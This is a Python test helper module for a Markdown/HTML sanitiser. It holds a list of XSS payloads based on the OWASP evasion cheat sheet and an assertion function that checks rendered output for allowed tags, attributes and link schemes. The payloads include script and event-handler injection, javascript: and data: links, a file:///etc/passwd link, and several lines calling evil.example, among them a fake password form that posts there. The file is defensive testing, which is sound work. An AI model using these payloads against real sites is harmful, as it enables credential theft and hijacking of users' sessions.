"""Texts that try to become markup, and the eye that sees whether they did: for every place that shows what people write."""

from __future__ import annotations

from collections.abc import Iterable
from html.parser import HTMLParser

# After the OWASP XSS filter evasion cheat sheet, as HTML and in Markdown's own ways to make links and pictures.
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<SCRIPT>alert('XSS');//\\<</SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="x:gif" onerror="alert(0)">',
    "<IMG SRC=javascript:alert('XSS')>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<img src='x' onerror=&#0000106&#0000097&#0000118&#0000097>",
    "<IMG SRC=jav&#x09;ascript:alert('XSS');>",
    '<a href="jav\tascript:alert(1)">x</a>',
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=https://evil.example><input name=password><button>Log in</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![x](x "onerror=alert(1)")',
    '![" onerror="alert(1)](https://evil.example/a.png)',
    '[x](https://a.example "\\" onmouseover=\\"alert(1)")',
    '[x](https://a.example/"onmouseover=alert(1)//)',
    '```"><script>alert(1)</script>\nx\n```',
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "[^<script>]\n\n[^<script>]: x",
    '[^"onmouseover=alert(1)]\n\n[^"onmouseover=alert(1)]: x',
    "- [ ] <img src=x onerror=alert(1)>",
    "# <script>alert(1)</script>",
    "<a href=//evil.example>x</a>",
    "\u0000<script>alert(1)</script>",
]

TAGS = {
    *("p", "br", "hr", "h2", "h3", "h4", "h5", "h6", "blockquote", "pre", "code", "em", "strong", "s", "sup", "section"),
    *("ul", "ol", "li", "table", "thead", "tbody", "tr", "th", "td", "a", "img", "input", "span", "div"),
}
ATTRIBUTES = {
    *("href", "title", "id", "rel", "class", "src", "alt", "loading"),
    *("type", "disabled", "checked", "start", "align", "tabindex", "aria-label"),
}


class Seen(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def assert_harmless(html: str, *, attributes_besides: Iterable[str] = ()) -> None:
    """Only tags and attributes of rendered Markdown; links and pictures of the kinds that it makes."""
    for tag, attributes in Seen(html).tags:
        assert tag in TAGS, html
        assert set(attributes) <= ATTRIBUTES | set(attributes_besides), html
        href = attributes.get("href")
        if href is not None:
            assert href.startswith(("http://", "https://", "mailto:", "/", "#")) or ":" not in href.partition("/")[0], html
            assert attributes["rel"] == "nofollow noopener"
        if tag == "img":
            assert str(attributes["src"]).startswith("/"), html
            assert not str(attributes["src"]).startswith("//"), html
        if tag == "input":
            assert attributes["type"] == "checkbox"
            assert "disabled" in attributes
